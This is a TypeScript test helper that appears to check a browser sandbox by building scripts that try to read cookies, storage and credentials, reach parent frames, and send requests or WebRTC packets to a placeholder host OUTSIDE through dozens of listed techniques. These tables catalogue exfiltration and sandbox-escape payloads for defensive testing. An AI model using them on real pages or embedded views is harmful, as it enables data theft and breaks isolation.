import type { Frame } from 'playwright-core';
import type { Outside } from './outside.js';

/**
 * What scripts try to get at in the browser: expressions that come to a value, or to a promise of one, when they got
 * there.
 */
export const locals: Readonly<Record<string, string>> = {
  localStorage: 'localStorage.length',
  sessionStorage: 'sessionStorage.length',
  cookies: 'document.cookie',
  caches: 'caches.keys()',
  'a database':
    "new Promise((yes, no) => Object.assign(indexedDB.open('x'), { onsuccess: () => yes(true), onerror: no }))",
  'a peer': 'new RTCPeerConnection().connectionState',
  'a peer by its old name': 'new webkitRTCPeerConnection().connectionState',
};

/** What lies around a frame, tried likewise. */
export const around: Readonly<Record<string, string>> = {
  'the document around it': 'parent.document.title',
  "the window's document": 'top.document.title',
  'the address of the window': 'top.location.href',
  'what the page around it may do': 'parent.acquireVsCodeApi',
  'another frame': 'parent.frames[0].parent.document',
  'its own element': 'frameElement.id',
  'a service worker': "navigator.serviceWorker.register('worker.js')",
  'a new window': "open('about:blank').closed",
  'a peer of a frame that it makes': "new (added('iframe', {}).contentWindow.RTCPeerConnection)().connectionState",
  'a peer of an object':
    "new (added('object', { data: 'about:blank' }).contentWindow.RTCPeerConnection)().connectionState",
  'a shared worker': "new SharedWorker(URL.createObjectURL(new Blob([''])))",
  devices: 'navigator.usb.getDevices()',
  files: 'navigator.storage.getDirectory()',
  locks: "navigator.locks.request('x', () => true)",
  credentials: 'navigator.credentials.get({ password: true }).then((found) => found ?? undefined)',
  'the whole screen': 'document.documentElement.requestFullscreen().then(() => true)',
  'an answer': "prompt('x') ?? (confirm('x') || undefined)",
  'a payment':
    "new PaymentRequest([{ supportedMethods: 'https://x.test' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } })",
};

/** Requests, by the paths that they ask for. */
export const requests: Readonly<Record<string, string>> = {
  fetch: "fetch('http://OUTSIDE/fetch')",
  xhr: "(() => { const r = new XMLHttpRequest(); r.open('GET', 'http://OUTSIDE/xhr'); r.send() })()",
  beacon: "navigator.sendBeacon('http://OUTSIDE/beacon', 'x')",
  socket: "new WebSocket('ws://OUTSIDE/socket')",
  events: "new EventSource('http://OUTSIDE/events')",
  image: "new Image().src = 'http://OUTSIDE/image'",
  script: "added('script', { src: 'http://OUTSIDE/script' })",
  module: "import('http://OUTSIDE/module')",
  style: "added('link', { rel: 'stylesheet', href: 'http://OUTSIDE/style' })",
  icon: "added('div', { style: 'background: url(http://OUTSIDE/icon); height: 1px' })",
  frame: "added('iframe', { src: 'http://OUTSIDE/frame' })",
  video: "added('video', { src: 'http://OUTSIDE/video', preload: 'auto' })",
  object: "added('object', { data: 'http://OUTSIDE/object' })",
  prefetch: "added('link', { rel: 'prefetch', href: 'http://OUTSIDE/prefetch' })",
  preload: "added('link', { rel: 'preload', as: 'image', href: 'http://OUTSIDE/preload' })",
  modulepreload: "added('link', { rel: 'modulepreload', href: 'http://OUTSIDE/modulepreload' })",
  ping: "added('a', { href: '#x', ping: 'http://OUTSIDE/ping' }).click()",
  imported: "added('style', { textContent: '@import url(http://OUTSIDE/imported)' })",
  font: "new FontFace('x', 'url(http://OUTSIDE/font)').load().catch(() => undefined)",
  sheet:
    "((sheet) => (sheet.replaceSync('body { background: url(http://OUTSIDE/sheet) }'), (document.adoptedStyleSheets = [sheet])))(new CSSStyleSheet())",
  keepalive: "fetch('http://OUTSIDE/keepalive', { keepalive: true, mode: 'no-cors' }).catch(() => undefined)",
  track:
    "(() => { const track = document.createElement('track'); added('video', {}).append(track); track.src = 'http://OUTSIDE/track'; track.track.mode = 'showing' })()",
  embed: "added('embed', { src: 'http://OUTSIDE/embed' })",
  button: "added('input', { type: 'image', src: 'http://OUTSIDE/button' })",
  drawing: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="http://OUTSIDE/drawing" width=9 height=9 /></svg>')`,
  inframe: "added('iframe', { srcdoc: '<img src=http://OUTSIDE/inframe>' })",
  based: "(added('base', { href: 'http://OUTSIDE/' }), added('img', { src: 'based' }))",
  imports: `new Worker(URL.createObjectURL(new Blob(['importScripts("http://OUTSIDE/imports")'])))`,
  workersocket: `new Worker(URL.createObjectURL(new Blob(['new WebSocket("ws://OUTSIDE/workersocket")'])))`,
  inworker: `new Worker(URL.createObjectURL(new Blob(['fetch("http://OUTSIDE/inworker")'])))`,
};

/** Ways to another page. */
export const departures = [
  "location = 'http://OUTSIDE/away'",
  "top.location = 'http://OUTSIDE/away'",
  "parent.location.replace('http://OUTSIDE/away')",
  "open('http://OUTSIDE/away')",
  "open('http://OUTSIDE/away', '_parent')",
  "added('a', { href: 'http://OUTSIDE/away', target: '_top' }).click()",
  "added('a', { href: 'http://OUTSIDE/away', download: 'file' }).click()",
  "added('form', { action: 'http://OUTSIDE/away', method: 'post' }).submit()",
  "added('meta', { httpEquiv: 'refresh', content: '0; url=http://OUTSIDE/away' })",
  "added('iframe', { src: 'data:text/html,<img src=http://OUTSIDE/away>' })",
  "location = URL.createObjectURL(new Blob(['<img src=http://OUTSIDE/away>'], { type: 'text/html' }))",
  "document.open(), document.write('<img src=http://OUTSIDE/away>'), document.close()",
] as const;

const adding =
  'const added = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));';

/** A script that tries each of these; the names of those that got there are its variable `reached`, once it is over. */
export function trying(outside: Outside, ...tables: readonly Readonly<Record<string, string>>[]): string {
  const tries = tables.flatMap((table) =>
    Object.entries(table).map(
      ([name, code]) => `attempt(${JSON.stringify(name)}, () => ${code.replaceAll('OUTSIDE', outside.host)})`,
    ),
  );
  return `<body><script>
    ${adding}
    const got = [];
    const attempt = async (name, code) => { try { if ((await code()) !== undefined) got.push(name) } catch {} };
    Promise.all([${tries.join(', ')}]).then(() => { window.reached = got });
  </script>`;
}

/** A script that goes away in that way. */
export function leaving(outside: Outside, departure: string): string {
  return `<body><script>
    ${adding}
    ${departure.replaceAll('OUTSIDE', outside.host)};
  </script>`;
}

/** A script that sends packets by WebRTC, from its own frame and from others that it makes. */
export function dialling(outside: Outside): string {
  const dial = `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${outside.packetHost}' }] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
  return `<body><script>
    const dial = ${JSON.stringify(dial)};
    const script = '<script>' + dial + '</' + 'script>';
    const file = URL.createObjectURL(new Blob([dial], { type: 'text/javascript' }));
    const frames = [
      { srcdoc: script },
      { srcdoc: '<img src=x onerror="' + dial + '">' },
      { srcdoc: '<script src="' + file + '"></' + 'script>' },
      { src: 'javascript:' + dial },
      { src: 'data:text/html,' + script },
      { src: URL.createObjectURL(new Blob([script], { type: 'text/html' })) },
    ];
    const make = (root) => frames.map((properties) => root.appendChild(Object.assign(document.createElement('iframe'), properties)));
    make(document.body);
    make(document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }));
    try { new Function(dial)() } catch {}
    try { document.querySelector('iframe').contentWindow.eval(dial) } catch {}
    window.tried = true;
  </script>`;
}

/** The names of what {@link trying} got at, once it is over. */
export async function reached(frame: Frame): Promise<string[]> {
  await frame.waitForFunction(() => Reflect.has(window, 'reached'));
  return frame.evaluate(() => Reflect.get(window, 'reached') as string[]);
}
